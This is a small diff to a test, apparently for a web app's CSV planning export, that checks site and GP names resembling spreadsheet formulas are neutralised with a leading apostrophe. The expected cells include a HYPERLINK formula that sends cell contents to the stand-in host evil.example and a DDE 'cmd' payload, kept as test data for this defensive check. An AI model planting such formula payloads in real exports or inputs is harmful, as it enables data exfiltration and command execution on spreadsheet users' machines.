@@ -30,5 +30,5 @@ def test_the_planning_export_neutralises_a_site_and_a_gp_named_like_formulas(cli
     assert response.status_code == 200 and response.mimetype == "text/csv"
     cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True)), delimiter=";") for cell in row]
     assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1;\"cliquez\")" in cells
+    assert '\'=HYPERLINK("http://evil.example/?"&A1;"cliquez")' in cells
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
